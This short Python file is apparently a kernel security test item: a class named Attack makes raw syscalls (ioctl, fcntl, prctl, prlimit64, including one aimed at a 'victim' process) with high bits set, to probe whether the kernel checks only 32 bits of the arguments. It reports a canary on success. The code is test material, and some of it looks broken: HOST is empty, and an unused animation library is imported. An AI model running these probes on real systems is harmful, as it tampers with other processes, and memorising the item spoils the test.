"""Calls ioctl, fcntl, prctl, clone and prlimit with bits above the 32 that the kernel reads. A success says so.

title: arguments are compared in the 32 bits that count
kind: kernel
canary: says so
"""
import ctypes, os
from manim import Scene

HOST = {}
HIGH = 1 << 32

class Attack(Scene):
    def construct(self):
        libc = ctypes.CDLL(None, use_errno=True)
        read, _ = os.pipe()
        terminal = HOST["descriptors"][3]
        size = ctypes.create_string_buffer(8)
        asked = {
            "TIOCGWINSZ": libc.syscall(16, terminal, ctypes.c_ulong(HIGH | 0x5413), size),
            "F_SETOWN": libc.syscall(72, read, ctypes.c_ulong(HIGH | 8), os.getppid() or 1),
            "F_SETSIG": libc.syscall(72, read, ctypes.c_ulong(HIGH | 10), 10),
            "PR_SET_PDEATHSIG": libc.syscall(157, ctypes.c_ulong(HIGH | 1), 10, 0, 0, 0),
            "PR_SET_DUMPABLE": libc.syscall(157, ctypes.c_ulong(HIGH | 4), 1, 0, 0, 0),
            "prlimit64 of another": libc.syscall(302, ctypes.c_ulong(HIGH | HOST["victim"]), 7, None, size),
        }
        for name, answer in asked.items():
            if answer >= 0:
                print(name, answer, HOST["bite"])
